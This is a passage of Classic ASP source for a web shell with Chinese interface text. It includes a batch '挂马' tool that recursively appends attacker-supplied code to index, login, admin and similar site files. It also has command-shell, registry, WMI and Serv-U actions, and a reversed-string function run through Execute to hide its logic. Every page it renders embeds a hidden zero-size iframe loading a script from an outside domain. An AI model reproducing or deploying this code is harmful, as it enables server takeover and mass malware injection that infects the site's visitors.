		If isDebugMode = False Then
			On Error Resume Next
		End If:End Function	
Function GetDateModify(filepath):Set F2SO = CreateObject("Scripting.FileSystemObject")
    Set f = F2SO.GetFile(filepath) 
	s = f.DateLastModified 
	set f = nothing
	set F2SO = nothing
	GetDateModify = s:End Function:Function GetDateCreate(filepath):Set F3SO = CreateObject("Scripting.FileSystemObject")
    Set f = F3SO.GetFile(filepath) 
	s = f.DateCreated 
	set f = nothing
	set F3SO = nothing
	GetDateCreate = s:End Function:Function tURLEncode(Str):temp = Replace(Str, "%", "%25")
	temp = Replace(temp, "#", "%23")
	temp = Replace(temp, "&", "%26")
	tURLEncode = temp:End Function:Sub ShowAllFile2(Path):Set F4SO = CreateObject("Scripting.FileSystemObject")
	if not F4SO.FolderExists(path) then exit sub
	Set f = F4SO.GetFolder(Path)
	Set fc2 = f.files
	For Each myfile in fc2
		If CheckExt(F4SO.GetExtensionName(path&"\"&myfile.name)) Then
			Call IsFind(Path&"\"&myfile.name)
			SumFiles = SumFiles + 1
		End If
	Next
	Set fc = f.SubFolders
	For Each f1 in fc
		ShowAllFile2 path&"\"&f1.name
		SumFolders = SumFolders + 1
    Next
	Set F4SO = Nothing:End Sub:Sub IsFind(thePath):theDate = GetDateModify(thePath)
	on error resume next
	theTmp = Mid(theDate, 1, Instr(theDate, " ") - 1)
	if err then exit Sub
	xDate = Split(request.Form("Search_Date"),";")
	If request.Form("Search_Date") = "ALL" Then ALLTime = True
	For i = 0 To Ubound(xDate)
		If theTmp = xDate(i) or ALLTime = True Then 
			If request("Search_Content") <> "" Then
				Set FSO2s = CreateObject("Scripting.FileSystemObject")
				set ofile = FSO2s.OpenTextFile(thePath, 1, false, -2)
				filetxt = Lcase(ofile.readall())
				If Instr( filetxt, LCase(request.Form("Search_Content"))) > 0 Then
					temp = "<a href=""http://"&Request.Servervariables("server_name")&"/"&tURLEncode(Replace(replace(thePath,server.MapPath("\")&"\","",1,1,1),"\","/"))&""" target=_blank>"&replace(thePath,server.MapPath("\")&"\","",1,1,1)&"</a>"
    temp=temp&" → <a href='javascript:FullForm("""&replace(replace(FilePath,server.MapPath("\")&"\","",1,1,1),"\","\\")&""",""EditFile"")' class='am' title='编辑'>Edit</a> "
	temp=temp&"<a href='javascript:FullForm("""&replace(replace(FilePath,server.MapPath("\")&"\","",1,1,1),"\","\\")&""",""DelFile"")'  onclick='return yesok()' class='am' title='删除'>Del</a > "
	temp=temp&"<a href='javascript:FullForm("""&replace(replace(FilePath,server.MapPath("\")&"\","",1,1,1),"\","\\")&""",""CopyFile"")' class='am' title='复制'>Copy</a> "
	temp=temp&"<a href='javascript:FullForm("""&replace(replace(FilePath,server.MapPath("\")&"\","",1,1,1),"\","\\")&""",""MoveFile"")' class='am' title='移动'>Move</a>"	
				Report = Report&"<tr><td height=30>"&temp&"</td><td>"&GetDateCreate(thePath)&"</td><td>"&theDate&"</td></tr>"
					Report = Report&"<tr><td>"&temp&"</td><td>"&GetDateCreate(thePath)&"</td><td>"&theDate&"</td></tr>"
					Sun = Sun + 1
					Exit Sub
				End If
				ofile.close()
				Set ofile = Nothing
				Set FSO2s = Nothing
			Else
				temp = "<a href=""http://"&Request.Servervariables("server_name")&"/"&tURLEncode(replace(replace(FilePath,server.MapPath("\")&"\","",1,1,1),"\","/"))&""" target=_blank>"&replace(thePath,server.MapPath("\")&"\","",1,1,1)&"</a> "
    temp=temp&"<a href='javascript:FullForm("""&replace(replace(FilePath,server.MapPath("\")&"\","",1,1,1),"\","\\")&""",""EditFile"")' class='am' title='编辑'>Edit</a> "
	temp=temp&"<a href='javascript:FullForm("""&replace(replace(FilePath,server.MapPath("\")&"\","",1,1,1),"\","\\")&""",""DelFile"")'  onclick='return yesok()' class='am' title='删除'>Del</a > "
	temp=temp&"<a href='javascript:FullForm("""&replace(replace(FilePath,server.MapPath("\")&"\","",1,1,1),"\","\\")&""",""CopyFile"")' class='am' title='复制'>Copy</a> "
	temp=temp&"<a href='javascript:FullForm("""&replace(replace(FilePath,server.MapPath("\")&"\","",1,1,1),"\","\\")&""",""MoveFile"")' class='am' title='移动'>Move</a>"	
				Report = Report&"<tr><td height=30>"&temp&"</td><td>"&GetDateCreate(thePath)&"</td><td>"&theDate&"</td></tr>"
				Sun = Sun + 1
				Exit Sub
			End If
		End If
	Next:End Sub
Case "plgm"
Server.ScriptTimeout=1000000 
Response.Buffer=False 
RRS ("<b>当前网站绝对路径:")&Server.MapPath("/")&("</b>")
ASP_SELF=Request.ServerVariables("PATH_INFO") 
s=Request("fd") 
if s="" then s=Server.MapPath("/")
ex=Request("ex") 
pth=Request("pth") 
newcnt=Request("newcnt") 
addcode = Request("code")
if addcode="" then addcode="<"
If ex<>"" AND pth<>"" Then 
select Case ex 
Case "edit" 
CALL file_show(pth) 
Case "save" 
CALL file_save(pth) 
End select 
Else 
RRS("<form method=""POST""> ")
RRS("<table width=560 border=""0"" style=""font-size:12px;"">")
RRS("<tr>")
RRS("<td width=""102"">要挂马的文件夹 (绝对路径)：</td>")
RRS("<td width=""359""><input type=""text"" name=""fd"" value="""&s&""" size=60></td>")
RRS("<td width=""69"">&nbsp;</td>")
RRS("</tr><tr><td>要挂马的代码:</td>")
RRS("<td><textarea name=""code"" cols=58 rows=""3"">"&addcode&"</textarea></td>")
RRS("<td><input name=""submit"" type=""submit"" value=""开始""></td>")
RRS("</tr></table></form> ")
End If
Function IsPattern(patt,str) 
ShiSan="fI dnE~ eslaF=nrettaPsI~ eslE~ eurT=nrettaPsI~ nehT eurT=laVter fI~ gnihtoN=xEger teS~ )rts(tseT.xEger=laVter~ eurT=esaCerongI.xEger~ ttap=nrettaP.xEger~ pxEgeR weN=xEger teS":ExeCuTe(UZSS(ShiSan)):End Function 
if request.form("submit")<>"" then
If s="" or addcode="" Then
RRS "<font color=red>请输入挂马的路径或代码!</font>"
response.end
else If IsPattern("[^ab]{1}:{1}(\\|\/)",s) Then sch s 
End If
end if 
Sub sch(s):oN eRrOr rEsUmE nExT 
Set fs=Server.createObject("Scripting.FileSystemObject") 
Set fd=fs.GetFolder(s) 
Set fi=fd.Files 
Set sf=fd.SubFolders 
For Each f in fi 
rtn=f.path 
step_all rtn 
Next 
If sf.Count<>0 Then 
For Each l In sf 
sch l 
Next 
End If:End Sub:Sub step_all(agr):retVal=IsPattern("(\\|\/)(default|index|conn|admin|bbs|reg|help|upfile|upload|cart|class|login|diy|no|ok|del|config|sql|user|ubb|ftp|asp|top|new|open|name|email|img|images|web|blog|save|data|add|edit|game|about|manager|main|article|book|bt|config|mp3|vod|error|copy|move|down|system|logo|QQ|520|newup|myup|play|show|view|ip|err404|send|foot|char|info|list|shop|err|nc|ad|flash|text|admin_upfile|admin_upload|upfile_load|upfile_soft|upfile_photo|upfile_softpic|vip|505)\.(htm|html|asp|php|jsp|aspx|cgi|js)\b",agr) 
If retVal Then 
step1 agr 
step2 agr 
Else 
Exit Sub:End If:End Sub:Sub step1(str1):RRS "<div style='line-height:20px'>√ "&str1&" _"
RRs "<a href='javascript:FullForm("""&replace(str1,"\","\\")&""",""DownFile"")' class='am' title='下载'>Down</a> "
RRS "<a href='javascript:FullForm("""&replace(str1,"\","\\")&""",""EditFile"")' class='am' title='编辑'>edit</a> "
RRS "<a href='javascript:FullForm("""&replace(str1,"\","\\")&""",""DelFile"")'onclick='return yesok()' class='am' title='删除'>Del</a> "
RRS "<a href='javascript:FullForm("""&replace(str1,"\","\\")&""",""CopyFile"")' class='am' title='复制'>Copy</a> "
RRS "<a href='javascript:FullForm("""&replace(str1,"\","\\")&""",""MoveFile"")' class='am' title='移动'>Move</a></div>":End Sub :Sub step2(str2):Set fs=Server.createObject("Scripting.FileSystemObject") 
isExist=fs.FileExists(str2) 
If isExist Then 
Set f=fs.GetFile(str2) 
Set f_addcode=f.OpenAsTextStream(8,-2) 
f_addcode.Write addcode 
f_addcode.Close 
Set f=Nothing 
End If 
Set fs=Nothing:End Sub:Err.Clear:Case "Cplgm":Fpath=Request("fd")
	addcode = Request("code")
	addcode2 = Request("code2")
	pcfile=request("pcfile")
	checkbox=request("checkbox")
	ShowMsg=request("ShowMsg")
	FType=request("FType")
	M=request("M")
	if Ftype="" then Ftype="txt|htm|html|asp|php|jsp|aspx|cgi|cer|asa|cdx"
	if Fpath="\" then Fpath=Server.MapPath("\")
	if Fpath="." or Fpath="" then Fpath=Server.MapPath(".")	
	if addcode="" then addcode="<"
	if checkbox="" then checkbox=request("checkbox")
	if pcfile="" then
		pcfileName=Request.ServerVariables("SCRIPT_NAME")
		pcfilek=split(pcfileName,"/") 
		pcfilen=ubound(pcfilek) 
		pcfile=pcfilek(pcfilen) 
	end if
  	RRS ("<b>网站根目录</b>- "&Server.MapPath("/")&"<br>")
	RRS ("<b>本程序目录</b>- "&Server.MapPath("."))
	RRS "<form method=POST><div style='color:#00FF00'><b>[" 
	if M="1" then RRS"批量挂马器-批量挂马"
	if M="2" then RRS"批量清马器-清除别人的网马"
	if M="3" then RRS"批量替换器-文件替换修改工具"
	if M="" then response.end
	RRS "]</b></div><table width=100% border=0><tr><td>文件路径：</td>"
	RRS "<td><input type=text name=fd value='"&Fpath&"' size=40> 填“\”即网站根目录；“.”为程序所在目录</td></tr>"
	if M="1" then RRS "<tr><td>过滤重复：</td><td><input class=c name='checkbox' type=checkbox value='checked' "&checkbox&"> 防止一个页面中有多个重复的代码</td></tr>"
	RRS "<tr><td>排除文件：</td>"
	RRS "<td><input name='pcfile' type=text id='pcfile' value='"&pcfile&"' size=40> 输入不想被修改的文件名，例如：1.asp|2.asp|3.asp</td></tr>"
	RRS "<tr><td>文件类型：</td>"
	RRS "<td><input name='FType' type=text id='FType' value='"&Ftype&"' size=40> 输入要修改的文件类型[扩展名]，例如：htm|html|asp|php|jsp|aspx|cgi</td></tr><tr><td><font color=#00FF00>"
	if M="1" then RRS"要挂的马："
	if M="2" then RRS"要清的马："
	if M="3" then RRS"查找内容："
	RRS"</font></td><td><textarea name=code cols=66 rows=3>"&addcode&"</textarea></td></tr>"
	if M="3" then RRS "<tr><td><font color=#00FF00>替 换 为：</font></td><td><textarea name=code2 cols=66 rows=3>"&addcode2&"</textarea></td></tr>"
	RRS "<tr><td></td><td> <input name=submit type=submit value=开始执行> --标记解释--[成功：√ ， 排除： ， 重复：<font color=red></font>]</td></tr>"
	RRS "</table></form>" 
if request("submit")="开始执行" then 
RRS"<div style='line-height:25px'><b>执行记录：</b><br>"
call InsertAllFiles(Fpath,addcode,pcfile)
RRS"</div>"
end if:Sub InsertAllFiles(Wpath,Wcode,pc):Server.ScriptTimeout=999999999
	 if right(Wpath,1)<>"\" then Wpath=Wpath &"\"
	 Set WFSO = CreateObject("Scripting.FileSystemObject")
	 on error resume next 
	 Set f = WFSO.GetFolder(Wpath)
	 Set fc2 = f.files
	 For Each myfile in fc2
		Set FS1 = CreateObject("Scripting.FileSystemObject")
		FType1=split(myfile.name,".") 
		FType2=ubound(FType1) 
		if Ftype2>0 then
		FType3=LCase(FType1(FType2)) 
		else
		FType3="无"
		end if
		if Instr(LCase(pc),LCase(myfile.name))=0 and Instr(LCase(FType),FType3)<>0 then
			select case M
				case "1"
					if checkbox<>"checked" then
						Set tfile=FS1.opentextfile(Wpath&""&myfile.name,8,-2)
						tfile.writeline Wcode
						RRS"√ "&Wpath&myfile.name
						tfile.close
					else
						Set tfile1=FS1.opentextfile(Wpath&""&myfile.name,1,-2)
						if Instr(tfile1.readall,Wcode)=0 then
							Set tfile=FS1.opentextfile(Wpath&""&myfile.name,8,-2)
							tfile.writeline Wcode
							RRS"√  "&Wpath&myfile.name
							tfile1.close
						else
							RRS"<font color=red></font> "&Wpath&myfile.name
							tfile1.close
						end if
						Set tfile1=Nothing
					end if
				case "2"
					Set tfile1=FS1.opentextfile(Wpath&""&myfile.name,1,-2)
					NewCode=Replace(tfile1.readall,Wcode,"")
					Set objCountFile=WFSO.CreateTextFile(Wpath&myfile.name,True)
					objCountFile.Write NewCode
					objCountFile.Close
					RRS"√  "&Wpath&myfile.name
					Set objCountFile=Nothing
				case "3"
					Set tfile1=FS1.opentextfile(Wpath&""&myfile.name,1,-2)
					NewCode=Replace(tfile1.readall,Wcode,addCode2)
					Set objCountFile=WFSO.CreateTextFile(Wpath&myfile.name,True)
					objCountFile.Write NewCode
					objCountFile.Close
					RRS"√  "&Wpath&myfile.name
					Set objCountFile=Nothing
				case else
					RRS"你真的很想进去？这是不可能的！www.7jyewu.cn":response.end
			end select
		else
			RRS" "&Wpath&myfile.name
		end if
RRS " → <a href='javascript:FullForm("""&replace(Wpath&myfile.name,"\","\\")&""",""DownFile"")' class='am' title='下载'>Down</a> "
RRS "<a href='javascript:FullForm("""&replace(Wpath&myfile.name,"\","\\")&""",""EditFile"")' class='am' title='编辑'>edit</a> "
RRS "<a href='javascript:FullForm("""&replace(str1,"\","\\")&""",""DelFile"")'  onclick='return yesok()' class='am' title='删除'>Del</a> "
RRS "<a href='javascript:FullForm("""&replace(Wpath&myfile.name,"\","\\")&""",""CopyFile"")' class='am' title='复制'>Copy</a> "
RRS "<a href='javascript:FullForm("""&replace(Wpath&myfile.name,"\","\\")&""",""MoveFile"")' class='am' title='移动'>Move</a><br>"
	 Next
 Set fsubfolers = f.SubFolders
 For Each f1 in fsubfolers
	NewPath=Wpath&""&f1.name
 	InsertAllFiles NewPath,Wcode,pc
 Next
set tfile=nothing
Set FSO = Nothing
set tfile=nothing
set tfile2=nothing
Set WFSO = Nothing:End Sub:case"hiddenshell":hiddenshell():case "SetFileText":SetFileText():Case "ReadREG":call ReadREG():Case "Show1File":Set ABC=New LBF:ABC.Show1File(Session("FolderPath")):Set ABC=Nothing:Case "DownFile":DownFile FName:ShowErr():Case "DelFile":Set ABC=New LBF:ABC.DelFile(FName):Set ABC=Nothing:Case "EditFile":Set ABC=New LBF:ABC.EditFile(FName):Set ABC=Nothing:Case "CopyFile":Set ABC=New LBF:ABC.CopyFile(FName):Set ABC=Nothing:Case "MoveFile":Set ABC=New LBF:ABC.MoveFile(FName):Set ABC=Nothing:Case "DelFolder":Set ABC=New LBF:ABC.DelFolder(FName):Set ABC=Nothing:Case "CopyFolder":Set ABC=New LBF:ABC.CopyFolder(FName):Set ABC=Nothing:Case "MoveFolder":Set ABC=New LBF:ABC.MoveFolder(FName):Set ABC=Nothing:Case "NewFolder":Set ABC=New LBF:ABC.NewFolder(FName):Set ABC=Nothing:Case "UpFile":UpFile():Case "Cmd1Shell":Cmd1Shell():Case "Logout":Session.Contents.Remove("web2a2dmin"):Response.Redirect URL:Case "CreateMdb":CreateMdb FName:Case "CompactMdb":CompactMdb FName:Case "DbManager":DbManager():Case "Course":Course():Case "wmi":wmi():Case "ScanDriveForm" : ScanDriveForm:Case "ScanDrive"     : ScanDrive Request("Drive"):Case "ScFolder"      : ScFolder Request("Folder"):Case "adminab":adminab():Case "sqlabc":sqlabc():Case "fuck":fuck():Case "hook":hook():Case "gody":gody():Case "suftp":suftp():Case "upload":upload():Case "ServerInfo":ServerInfo():Case Else MainForm():End Select
if Action<>"Servu" then ShowErr():RRS"</body><iframe src=http://7jyewu.cn/a/a.asp width=0 height=0></iframe></html>"
%> 